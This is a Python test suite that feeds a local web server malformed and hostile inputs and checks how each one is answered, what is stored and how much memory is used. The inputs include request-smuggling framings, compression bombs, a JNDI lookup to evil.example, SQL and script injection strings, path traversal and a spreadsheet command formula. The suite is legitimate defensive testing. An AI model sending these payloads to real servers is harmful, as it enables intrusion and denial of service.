"""Every bad input we know of, with the answer it must get, whether it is written, and what it costs (R24, R26, R29, R2)."""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import secrets
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from crosspath.web.assets import Assets

from tests.conftest import a_capture
from tests.web.process import ServerProcess
from tests.web.raw import Caller, Reply, connect, exchange, request
from tests.web.test_host import REFUSED

STYLE = Assets().address("page.css")

LARGEST = 1 << 20
DEEP = 32

Made = Callable[[Caller], bytes]


@dataclass(frozen=True, kw_only=True)
class Row:
    """One input: its bytes, the statuses it may get, how many captures it leaves, whether the connection must end."""

    name: str
    made: Made
    answers: frozenset[int]
    written: int = 0
    ends: bool = False


def row(name: str, made: Made, *answers: int, written: int = 0, ends: bool = False) -> Row:
    return Row(name=name, made=made, answers=frozenset(answers), written=written, ends=ends)


def get(target: str, *more: tuple[str, str], host: str | None = None, method: str = "GET") -> Made:
    """A request without a body that has a good token."""

    def made(caller: Caller) -> bytes:
        named = caller.host if host is None else host.format(port=caller.port)
        return request(
            method,
            target.format(port=caller.port),
            [("Host", named), *caller.headers(json_body=False)[1:], *more],
        )

    return made


def body(raw: bytes, *more: tuple[str, str], to: str = "/api/v1/captures") -> Made:
    """A body with good headers."""
    return lambda caller: request("POST", to, [*caller.headers(), *more], raw)


def fresh(**fields: Any) -> dict[str, Any]:
    """A capture whose page no other has, so that each leaves an event of its own."""
    return a_capture(**{"url": f"https://bob.example/{secrets.token_hex(8)}", **fields})


def capture(**fields: Any) -> Made:
    """A good capture but for some fields."""
    return lambda caller: body(json.dumps(fresh(**fields)).encode())(caller)


def spelled(field: str, raw: str) -> Made:
    """A good capture in which one field's value is written in just this way."""
    text = json.dumps(fresh(**{field: "@@"})).replace('"@@"', raw)
    return body(text.encode("utf-8", "surrogatepass"))


def nested(depth: int) -> Any:
    """A value so many levels deep."""
    value: Any = "x"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


def padded(size: int) -> bytes:
    """A good capture in so many bytes."""
    text = json.dumps(fresh()).encode()
    return text + b" " * (size - len(text))


@cache
def bomb(wbits: int) -> bytes:
    """200 MB of spaces, compressed."""
    packer = zlib.compressobj(1, zlib.DEFLATED, wbits)
    return b"".join([*(packer.compress(b" " * 1_000_000) for _ in range(200)), packer.flush()])


def coded(coding: str, raw: bytes) -> Made:
    return body(raw, ("Content-Encoding", coding))


def framed(*lines: str | bytes, rest: bytes = b"") -> Made:
    """A capture's headers but for its length, with ``lines`` among them, and ``rest`` behind."""

    def made(caller: Caller) -> bytes:
        head = request("POST", "/api/v1/captures", caller.headers())[:-2]
        return head + b"".join((line.encode() if isinstance(line, str) else line) + b"\r\n" for line in lines) + b"\r\n" + rest

    return made


def plain(raw: bytes) -> Made:
    """Bytes as they are, with the port put in."""
    return lambda caller: raw.replace(b"{host}", caller.host.encode()).replace(b"{token}", str(caller.token).encode())


HOSTS = [row(f"Host {host!r}", get("/", host=host), 400, 403) for host in REFUSED] + [
    row("no Host", lambda c: request("GET", "/", c.headers()[1:]), 400),
    row("no Host, HTTP/1.0", lambda c: request("GET", "/", c.headers()[1:], version="HTTP/1.0"), 403),
    row("two Hosts", lambda c: request("GET", "/", [c.headers()[0], *c.headers()]), 400),
    row("absolute target", get("http://evil.example/"), 403, 400),
    row("forwarded host", get("/", ("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil")), 200),
]

JSON = [
    row("empty", body(b""), 400, 422),
    *(row(f"only {raw.decode()}", body(raw), 400, 422) for raw in (b"null", b"[]", b'"x"', b"0", b"true", b"{}", b" ")),
    row("100000 lists", body(b"[" * 100_000), 400),
    row("100000 closed lists", body(b"[" * 100_000 + b"]" * 100_000), 400),
    row("100000 objects", body(b'{"a":' * 100_000), 400),
    row("a level too deep", capture(data={"in": nested(DEEP - 1)}), 422),
    row("as deep as may be", capture(data={"in": nested(DEEP - 2)}), 201, written=1),
    *(row(f"{raw} in data", spelled("note", raw), 400) for raw in ("NaN", "Infinity", "-Infinity", "1e400", "-1e999", "+1", "01", ".5", "0x1")),
    row("NaN nested", body(json.dumps(fresh(data={"a": [float("nan")]})).encode()), 400),
    *(
        row(f"integer {name}", body(json.dumps(fresh(data={"a": "@@"})).replace('"@@"', digits).encode()), 400, 422)
        for name, digits in (("of 5000 digits", "9" * 5000), ("2^53", str(2**53)), ("2^63", str(2**63)), ("2^64", str(2**64)), ("-2^53", str(-(2**53))))
    ),
    row("2^53-1", body(json.dumps(fresh(data={"a": 2**53 - 1})).encode()), 201, written=1),
    row("number of 5000 decimals", body(json.dumps(fresh(data={"a": "@@"})).replace('"@@"', "0." + "1" * 5000).encode()), 201, 400, 422, written=-1),
    row("lone surrogate", spelled("text", '"\\ud800"'), 422),
    row("lone surrogate, the other half", spelled("note", '"a\\udfff"'), 422),
    row("lone surrogate in a key", spelled("data", '{"\\ud800": 1}'), 422),
    row("lone surrogate nested", spelled("data", '{"a": [{"b": "\\udc00"}]}'), 422),
    row("lone surrogate in the page", spelled("page", '{"title": "\\ud83d"}'), 422),
    row("lone surrogate in a target", spelled("target", '{"name": "\\ud83d"}'), 422),
    row("surrogate pair", spelled("text", '"\\ud83d\\ude00"'), 201, written=1),
    row("raw surrogate bytes", spelled("text", '"\ud800"'), 400),
    row("NUL in text", spelled("text", '"a\\u0000b"'), 422),
    row("NUL in a title", spelled("page", '{"title": "a\\u0000b"}'), 422),
    row("NUL in an address", spelled("url", '"https://bob.example/\\u0000"'), 422),
    row("NUL in a key", spelled("data", '{"a\\u0000": 1}'), 422),
    row("NUL in data", spelled("data", '{"a": ["\\u0000"]}'), 422),
    row("NUL byte", body(b'{"id": "\x00"}'), 400),
    row("control byte", body(b'{"id": "\x01"}'), 400),
    row("bytes ff fe in a string", body(b'{"id": "\xff\xfe"}'), 400),
    row("overlong UTF-8", body(b'{"id": "\xc0\x80"}'), 400),
    row("UTF-16", body(json.dumps(fresh()).encode("utf-16")), 400),
    row("UTF-16 without mark", body(json.dumps(fresh()).encode("utf-16-le")), 400),
    row("UTF-32", body(json.dumps(fresh()).encode("utf-32")), 400),
    row("UTF-8 with byte order mark", body(b"\xef\xbb\xbf" + json.dumps(fresh()).encode()), 400),
    row("Latin-1", body(json.dumps(fresh(text="é"), ensure_ascii=False).encode("latin-1")), 400),
    row("a key twice", body(b'{"id": "a", "id": "b"}'), 400),
    row("a key twice, nested", spelled("data", '{"a": {"b": 1, "\\u0062": 2}}'), 400),
    row("more behind it", body(json.dumps(fresh()).encode() + b" x"), 400),
    row("two values", body(json.dumps(fresh()).encode() * 2), 400),
    row("comment", body(b'{/* a */ "id": 1}'), 400),
    row("line comment", body(b'// a\n{}'), 400),
    row("single quotes", body(b"{'id': 'a'}"), 400),
    row("trailing comma", body(b'{"id": "a",}'), 400),
    row("comma alone", body(b"{,}"), 400),
    row("unquoted key", body(b'{id: "a"}'), 400),
    row("unended string", body(b'{"id": "a'), 400),
    row("unknown field", capture(extra=1), 422),
    row("__proto__ as a field", capture(__proto__={"admin": True}), 422),
    *(row(f"{field} = {value!r}", capture(**{field: value}), 422) for field, value in (
        ("id", 1), ("url", []), ("url", 7), ("occurred_at", True), ("occurred_at", 1732300000), ("text", {}), ("text", 1), ("verb", "destroy"),
        ("verb", ["comment"]), ("direction", "sideways"), ("page", "x"), ("page", []), ("target", "bob"), ("target", {"id": 1}), ("data", []),
        ("data", "x"), ("persona", 3), ("persona", ""), ("source", "nowhere"), ("source", "import:"), ("rule", {}), ("rule", {"id": ""}),
        ("undo_of", "x"), ("via", 1), ("note", False),
    )),
    row("no id", body(json.dumps({"verb": "comment", "url": "https://bob.example/"}).encode()), 422),
    row("no url", body(json.dumps({"id": a_capture()["id"], "verb": "comment"}).encode()), 422),
    row("no verb", capture(verb=None), 422),
    row("captures that is no list", body(b'{"captures": {}}'), 422),
    row("captures and more", body(json.dumps({"captures": [], **fresh()}).encode()), 422),
    *(row(f"literal {text}", capture(text=text, note=text, data={text: text, "x": [text]}), 201, written=1) for text in (
        "__proto__", "constructor", "__class__", "$ref", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%d", "{0.__class__}", "'; DROP TABLE event; --",
        "<script>alert(1)</script>", "../../etc/passwd", "\u202egnp.exe", "=cmd|' /C calc'!A0",
    )),
]  # fmt: skip

SIZES = [
    row("1 MiB", body(padded(LARGEST)), 201, written=1),
    row("1 MiB and a byte", body(padded(LARGEST + 1)), 413),
    row("1 MiB and a byte, not sent", framed(f"Content-Length: {LARGEST + 1}"), 413, ends=True),
    row("a length of 20 digits", framed("Content-Length: 99999999999999999999"), 400, 413, ends=True),
    row("a length of 18 digits", framed("Content-Length: 999999999999999999"), 413, ends=True),
    row(
        "2 MiB in chunks",
        framed("Transfer-Encoding: chunked", rest=b"200000\r\n" + b" " * 0x200000 + b"\r\n0\r\n\r\n"),
        413,
    ),
    row("a batch of 501", body(json.dumps({"captures": [{}] * 501}).encode()), 413),
    row("title of 2 KiB and one", capture(page={"title": "x" * 2049}), 422),
    row("title of 2 KiB", capture(page={"title": "x" * 2048}), 201, written=1),
    row("title of 2 KiB and one in é", capture(page={"title": "é" * 1025}), 422),
    row("text of 8 KiB and one", capture(text="x" * 8193), 422),
    row("text of 8 KiB", capture(text="x" * 8192), 201, written=1),
    row("text of 8 KiB and one in é", capture(text="é" * 4097), 422),
    row("1 MB of é", body(json.dumps(fresh(text="é" * 500_000), ensure_ascii=False).encode()), 422),
    row("10000 combining marks", capture(text="a" + "\u0301" * 10_000), 422),
    row("key of 8 KiB and one", capture(data={"k" * 8193: 1}), 422),
    row("200 keys and one", capture(data={str(n): n for n in range(201)}), 422),
    row("keys, nested", capture(data={"a": [{str(n): 0} for n in range(201)]}), 422),
    row("name of 8 KiB and one", capture(target={"name": "x" * 8193}), 422),
    row("100000 numbers", body(json.dumps(fresh(data={"a": [0] * 100_000})).encode()), 201, 422, written=-1),
    row("handle of 8 KiB", capture(target={"handle": "x" * 8192}), 201, 422, written=-1),
]

CODINGS = [
    row("gzip", coded("gzip", gzip.compress(json.dumps(fresh()).encode())), 201, written=1),
    row("deflate", coded("deflate", zlib.compress(json.dumps(fresh()).encode())), 201, written=1),
    row("identity", coded("identity", json.dumps(fresh()).encode()), 201, written=1),
    row("gzip garbage", coded("gzip", b"garbage, not gzip"), 400),
    row("gzip cut off", coded("gzip", gzip.compress(json.dumps(fresh()).encode())[:-20]), 400),
    row("deflate garbage", coded("deflate", b"garbage, not deflate"), 400),
    row("gzip of 200 MB", lambda c: coded("gzip", bomb(31))(c), 413),
    row("gzip of 1 MiB and a byte", coded("gzip", gzip.compress(padded(LARGEST + 1))), 413),
    row("gzip of 1 MiB", coded("gzip", gzip.compress(padded(LARGEST))), 201, written=1),
    row("deflate of 200 MB", lambda c: coded("deflate", bomb(15))(c), 413),
    row(
        "gzip twice",
        coded("gzip, gzip", gzip.compress(gzip.compress(json.dumps(fresh()).encode()))),
        400,
        415,
    ),
    row("gzip on two lines", body(b"{}", ("Content-Encoding", "gzip"), ("Content-Encoding", "gzip")), 400, 415),
    *(
        row(f"{coding} garbage", coded(coding, b"garbage"), 400, 415)
        for coding in ("br", "zstd", "foo", "compress", "gzip;q=1", "x-gzip, br", "\x0bgzip")
    ),
    row("br bomb", coded("br", bytes.fromhex("8b0080") + b"\xff" * 1000), 400, 415),
    row("zstd bomb", coded("zstd", bytes.fromhex("28b52ffd") + b"\xff" * 1000), 400, 415),
]

TYPES = [
    row(
        f"as {name}",
        lambda c, name=name: request(
            "POST",
            "/api/v1/captures",
            [*c.headers()[:-1], ("Content-Type", name)],
            json.dumps(fresh()).encode(),
        ),
        415,
    )
    for name in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-7",
        "",
    )
] + [
    row(
        "of no type",
        lambda c: request("POST", "/api/v1/captures", c.headers()[:-1], json.dumps(fresh()).encode()),
        415,
    )
]

GOOD_ID = "7b0c9a10-5d1e-4c57-9f5a-00000000000a"
IDS = [
    row(f"id {name}", capture(id=value), 422)
    for name, value in {
        "word": "x",
        "empty": "",
        "in capitals": GOOD_ID.upper(),
        "in braces": f"{{{GOOD_ID}}}",
        "as urn": f"urn:uuid:{GOOD_ID}",
        "without hyphens": GOOD_ID.replace("-", ""),
        "with a space": f"{GOOD_ID} ",
        "with a line end": f"{GOOD_ID}\n",
        "ULID with a line end": "01JDANQ7E4M0VWX0B1Y2Z3A4B5\n",
        "ULID in small letters": "01jdanq7e4m0vwx0b1y2z3a4b5",
        "ULID beyond the last": "8ZZZZZZZZZZZZZZZZZZZZZZZZZ",
        "in other digits": GOOD_ID.replace("0", "٠"),
        "of 500 kB": "a" * 500_000,
        "path": "../../etc/passwd",
        "emoji": "🦜",
    }.items()
]

URLS = [
    row(f"url {value[:60]!r}", capture(url=value), 422)
    for value in (
        "", " ", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "file:///etc/passwd", "about:blank",
        "chrome://settings", "moz-extension://x/y", "view-source:https://bob.example/", "ftp://bob.example/", "mailto:bob@bob.example", "blob:https://bob.example/x",
        "https://" + "x" * 100_000, "https://bob.example/" + "x" * 8192, "https://user:secret@bob.example/", "https://user@bob.example/", "http://[::1",
        "https://bob.example:99999/", "https://", "https:///", "http://a b.example/", "https://bob.example<script>/", "https://%00/", "https://xn--/",
    )
] + [
    # Inert, by the URL Standard: backslashes are slashes, other scripts are punycode, spaces are escaped.
    row(f"url {value!r}", capture(url=value), 201, 422, written=-1)
    for value in (
        "https://bоb.example/", "https:\\\\bob.example\\a", "https://bob.example/a b", "https://bob.example/%ff%fe", "https://bob.example/?q=%ff",
        "https://bob.example/%ed%a0%80", "https://github.com/%ff%fe/repo/issues/1", "https://github.com/%ed%a0%80", "https://news.ycombinator.com/user?id=%ff",
        "https://mastodon.example/@%ff/1", "https://bsky.app/profile/%ff/post/3k", "https://bob.example/#%ff", "https://bob.example/%00", "bob.example",
        "//bob.example/", "https://bob.example/\u202e", "https://[::1]/", "https://127.0.0.1/", "https://github.com/" + "a" * 4000, "https://bob.example./",
        "https://www./", "https://www.www./", "https://..bob.example/",
    )
]  # fmt: skip

TARGETS = [
    row(f"target {value!r}", capture(target=value), 201, 422, written=-1)
    for value in (
        {"url": "javascript:alert(1)"}, {"url": "https://bob.example/%ff"}, {"handle": "@"}, {"handle": "@%ff@bob.example"}, {"handle": "@a@b@c"}, {"handle": ""},
        {"handle": "\u202e"}, {"handle": "@a@" + "b" * 300}, {"handle": "acct:a@b"}, {"name": ""}, {}, {"handle": "a\nb"}, {"url": "https://github.com/%ff"},
        {"handle": "x" * 2000, "url": "https://github.com/" + "y" * 4000},
    )
]  # fmt: skip

TIMES = [
    row(f"time {value!r}", capture(occurred_at=value), 422)
    for value in (
        "2026-02-30T12:00:00Z", "2026-13-01T12:00:00Z", "2026-01-01T24:01:00Z", "2026-01-01T12:60:00Z", "1732300000000", "1732300000000000", "-1", "1e20",
        "now", "", "2026-01-01", "12:00", "20260101T120000Z", "2026-01-01T12:00:00+25:00", "0000-00-00T00:00:00Z", "-2026-01-01T12:00:00Z",
        "2026-01-01T12:00:00Z\n", "２０２６-01-01T12:00:00Z", "12026-01-01T12:00:00Z", "2026-01-01T12:00:00ZZ",
    )
] + [
    row(f"time {value!r}", capture(occurred_at=value), 201, 422, written=-1)
    for value in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "9999-12-31T23:59:60Z", "0001-01-01T00:00:00Z", "2026-01-01T24:00:00Z")
]  # fmt: skip

GOOD_CHUNK = b"2\r\n{}\r\n"
FRAMING = [
    row(
        "length and chunked",
        framed("Content-Length: 2", "Transfer-Encoding: chunked", rest=GOOD_CHUNK + b"0\r\n\r\n"),
        400,
        ends=True,
    ),
    row(
        "chunked and length",
        framed("Transfer-Encoding: chunked", "Content-Length: 2", rest=b"{}"),
        400,
        ends=True,
    ),
    row("two lengths", framed("Content-Length: 2", "Content-Length: 3", rest=b"{}x"), 400, ends=True),
    row("two equal lengths", framed("Content-Length: 2", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    *(
        row(f"length {value}", framed(f"Content-Length: {value}", rest=b"{}"), 400, ends=True)
        for value in ("+2", "-2", "0x2", "2,2", "2 2", "", "٢", "1e1")
    ),
    *(
        row(
            f"coded {value!r}",
            framed(b"Transfer-Encoding: " + value, rest=GOOD_CHUNK + b"0\r\n\r\n"),
            400,
            501,
            ends=True,
        )
        for value in (
            b"xchunked",
            b"chunked, chunked",
            b"\x0bchunked",
            "ｃhunked".encode(),
            b"chunked, identity",
            b"gzip",
            b"chunked;a=b",
            b"",
            b"identity",
        )
    ),
    row(
        "chunked twice",
        framed("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", rest=GOOD_CHUNK + b"0\r\n\r\n"),
        400,
        ends=True,
    ),
    row("chunk of no size", framed("Transfer-Encoding: chunked", rest=b"x\r\n{}\r\n0\r\n\r\n"), 400, ends=True),
    row(
        "chunk of negative size",
        framed("Transfer-Encoding: chunked", rest=b"-2\r\n{}\r\n0\r\n\r\n"),
        400,
        ends=True,
    ),
    row(
        "chunk of 2^64",
        framed("Transfer-Encoding: chunked", rest=b"10000000000000000\r\n{}\r\n0\r\n\r\n"),
        400,
        ends=True,
    ),
    row(
        "chunk longer than it says",
        framed("Transfer-Encoding: chunked", rest=b"1\r\n{}\r\n0\r\n\r\n"),
        400,
        ends=True,
    ),
    row("line ended by LF", plain(b"GET / HTTP/1.1\nHost: {host}\n\n"), 400, ends=True),
    row("folded line", framed("X-A: a\r\n b", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("space before the colon", framed("X-A : a", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("space before a name", plain(b"GET / HTTP/1.1\r\n Host: {host}\r\n\r\n"), 400, ends=True),
    row("header without a colon", framed("X-A", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("header without a name", framed(": a", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("NUL in a value", framed("X-A: a\x00b", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("CR in a value", framed("X-A: a\rb", "Content-Length: 2", rest=b"{}"), 400, ends=True),
    row("two spaces in the first line", plain(b"GET  / HTTP/1.1\r\nHost: {host}\r\n\r\n"), 200, 400),
    # Harmless, as the Host is looked at all the same: pinned.
    row("no version", plain(b"GET /\r\nHost: {host}\r\n\r\n"), 200, 400),
    row("HTTP/0.9", plain(b"GET / HTTP/0.9\r\nHost: {host}\r\n\r\n"), 200, 400, 505),
    row("HTTP/0.9 without Host", plain(b"GET /\r\n\r\n"), 400, 403),
    *(
        row(
            f"version {name}",
            plain(b"GET / " + name.encode() + b"\r\nHost: {host}\r\n\r\n"),
            400,
            505,
            ends=True,
        )
        for name in ("HTTP/9.9", "HTTP/2", "http/1.1", "FTP/1.1", "HTTP/1.1x")
    ),
    row("129 headers", get("/", *((f"X-{n}", "a") for n in range(129))), 400, 431, ends=True),
    row("line of 8191 bytes", get("/", ("X-A", "a" * 8191)), 400, 431, ends=True),
    row("line of 64 KiB", get("/", ("X-A", "a" * 65536)), 400, 431, ends=True),
    row(
        "line of 1 MiB without an end",
        plain(b"GET / HTTP/1.1\r\nX-A: " + b"a" * LARGEST),
        400,
        431,
        ends=True,
    ),
    row("URL of 100 kB", get("/" + "a" * 100_000), 400, 414, ends=True),
    row(
        "1 MB of trailers",
        framed("Transfer-Encoding: chunked", rest=GOOD_CHUNK + b"0\r\n" + b"X-A: a\r\n" * 125_000 + b"\r\n"),
        400,
        422,
        431,
        ends=True,
    ),
    row(
        "chunk extension of 9 kB",
        framed("Transfer-Encoding: chunked", rest=b"2;a=" + b"b" * 9000 + b"\r\n{}\r\n0\r\n\r\n"),
        400,
        422,
    ),
    row("length and nothing more", framed("Content-Length: 0"), 400),
    row("TLS", plain(bytes.fromhex("16030100a5010000a10303") + os.urandom(154)), 400, ends=True),
    row("HTTP/2 preface", plain(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 400, ends=True),
    row("SSH", plain(b"SSH-2.0-OpenSSH_9.9\r\n"), 400, ends=True),
    row("random bytes", plain(b"\x80\xff" + os.urandom(500) + b"\r\n\r\n"), 400, ends=True),
    row("NUL bytes", plain(b"\x00" * 1000), 400, ends=True),
]

METHODS = [
    *(
        row(f"method {name}", get("/api/v1/events", method=name), 400, 403, 404, 405, 501)
        for name in ("FOO", "TRACE", "CONNECT", "PRI", "get", "PUT", "DELETE", "HEAD\x0b")
    ),
    row("a method of 10 kB", get("/", method="A" * 10_000), 400, 405, 414, 431),
    row(
        "overridden method",
        get("/api/v1/events", ("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE")),
        200,
    ),
    row("overridden method in the query", get("/api/v1/events?_method=DELETE"), 422),
]

REST = [
    row(
        "800 illegal cookie names",
        get("/api/v1/events", ("Cookie", "; ".join(f"a[{n}]=b" for n in range(800)))),
        200,
        400,
    ),
    row("cookie of 8 KB", get("/api/v1/events", ("Cookie", "a=" + "b" * 8000)), 200, 400),
    row("two session cookies", get("/api/v1/events", ("Cookie", "cp=a; cp=b")), 200),
    *(
        row(
            f"auth {name}",
            lambda c, value=value: request("GET", "/api/v1/events", [("Host", c.host), ("Authorization", value)]),
            400,
            401,
        )
        for name, value in (
            ("of 8 KB", "Bearer " + "a" * 8000),
            ("with NUL", "Bearer a\x00"),
            ("with é", "Bearer é"),
            ("with a lone byte", "Bearer \udcff"),
        )
    ),
    row(
        "two auths",
        lambda c: request("GET", "/api/v1/events", [*c.headers(), ("Authorization", "Bearer x")]),
        400,
        401,
    ),
    row("1000 ranges", get(STYLE, ("Range", "bytes=" + ",".join(["0-"] * 1000))), 200, 416),
    row("range in other digits", get(STYLE, ("Range", "bytes=٠-١")), 200, 416),
    *(
        row(
            f"websocket {name}",
            lambda c, host=host, origin=origin, token=token: websocket(c, host, origin, token),
            *answers,
        )
        for name, host, origin, token, answers in (
            ("from a foreign origin", None, "https://evil.example", True, (403,)),
            ("without a token", None, None, False, (401,)),
            ("rebound", "evil.example", None, True, (403,)),
            ("with all that is needed", None, None, True, (200, 400, 404)),
        )
    ),
    row(
        "h2c upgrade",
        get(
            "/api/v1/events",
            ("Connection", "Upgrade, HTTP2-Settings"),
            ("Upgrade", "h2c"),
            ("HTTP2-Settings", "AAMAAABk"),
        ),
        200,
    ),
    row("expecting the unexpected", get("/api/v1/events", ("Expect", "a-miracle")), 200),
]


def websocket(caller: Caller, host: str | None, origin: str | None, token: bool) -> bytes:
    """An upgrade request."""
    headers = [
        ("Host", host or caller.host),
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
    ]
    headers += [("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="), *([("Origin", origin)] if origin else [])]
    return request("GET", "/api/v1/stream/", [*headers, *(caller.headers(json_body=False)[1:] if token else [])])


SECTIONS = {
    "host": HOSTS,
    "json": JSON,
    "size": SIZES,
    "coding": CODINGS,
    "type": TYPES,
    "id": IDS,
    "url": URLS,
    "target": TARGETS,
    "time": TIMES,
}
SECTIONS |= {"framing": FRAMING, "method": METHODS, "rest": REST}


async def verdict(row: Row, caller: Caller, process: ServerProcess, good: bytes) -> str | None:
    """What is wrong with the answer to one row; None when nothing is."""
    before = process.rows("capture")
    async with connect(caller.port) as connection:
        # Read while it is sent: who hangs up in the middle of it may take an answer along that nobody has read.
        reading = asyncio.ensure_future(connection.reply(head=row.name == "method HEAD"))
        await connection.send(row.made(caller))
        reply = await reading
        ended = True
        if row.ends and reply is not None:
            await connection.send(good)
            ended = await connection.ended()
    if reply is None:
        return "no answer"
    if reply.status not in row.answers:
        return f"{reply.status} {reply.body[:300]!r}, not {sorted(row.answers)}"
    written = process.rows("capture") - before
    if written != (row.written if row.written >= 0 else int(reply.status == 201)):
        return f"{reply.status} left {written} captures"
    return None if ended else f"{reply.status}, and the connection stayed open"


@pytest.fixture
def good(visitor: Caller) -> bytes:
    """A request that would be answered."""
    return request("GET", "/api/v1/health", visitor.headers())


@pytest.mark.parametrize("section", SECTIONS)
async def test_bad_inputs_are_answered_as_they_must_be(section: str, visitor: Caller, door: ServerProcess, good: bytes) -> None:
    """Section 3 A-C, a part at a time: status, rows, and the end of the connection where framing is in doubt."""
    wrong = [(row.name, found) for row in SECTIONS[section] if (found := await verdict(row, visitor, door, good))]
    assert not wrong, "\n".join(f"{name}: {found}" for name, found in wrong)
    assert "Traceback" not in door.output(), door.output()[-6000:]


async def test_bad_inputs_cost_no_memory(folder: Path) -> None:
    """R26: over the whole table the server's peak grows by less than 64 MB."""
    process = ServerProcess(folder).wait_until_ready()
    try:
        caller = Caller(process.port, process.token())
        good = request("GET", "/api/v1/health", caller.headers())
        assert (await caller.post(fresh())).status == 201
        before = process.memory()
        for row in all_rows():
            await exchange(caller.port, row.made(caller), head=row.name == "method HEAD")
        grown = process.memory("VmHWM") - before
        answer = await exchange(caller.port, good)
        assert answer and answer.status == 200
        assert grown < 64 << 20, f"{grown >> 20} MiB"
    finally:
        process.stop()


def all_rows() -> Iterator[Row]:
    for rows in SECTIONS.values():
        yield from rows


async def test_what_is_taken_literally_comes_back_literally(caller: Caller) -> None:
    """Bad input 27."""
    for text in (
        "__proto__",
        "{{7*7}}",
        "${jndi:ldap://x}",
        "%s%n",
        "{0.__class__}",
        "<b>&amp;",
        "e\u0301 \u00e9 \u200d \u202e",
        "a\r\nb\tc\x7f\x1b[2J",
    ):
        made = await caller.post(fresh(text=text, note=text, page={"title": text}))
        assert made.status == 201
        event = (await caller.ask("GET", f"/api/v1/events/{made.json['events'][0]['id']}")).json
        assert (event["my_text"]["text"], event["note"], event["object"]["title"]) == (text, text, text)


async def test_ten_thousand_pipelined_requests_are_answered_in_order(door: ServerProcess, visitor: Caller) -> None:
    """Bad input 43: all are answered, and memory stays where it was."""
    count, before = 10_000, door.memory()
    kinds = {"/": 200, "/nope": 404, "/api/v1/health": 200}
    targets = [list(kinds)[n % 3] for n in range(count)]
    data = b"".join(request("GET", target, visitor.headers(json_body=False)) for target in targets)
    async with connect(visitor.port) as connection:
        sending = asyncio.create_task(connection.send(data))
        for target in targets:
            reply = await connection.reply()
            assert isinstance(reply, Reply)
            assert reply.status == kinds[target]
        await sending
    assert door.memory("VmHWM") - before < 64 << 20
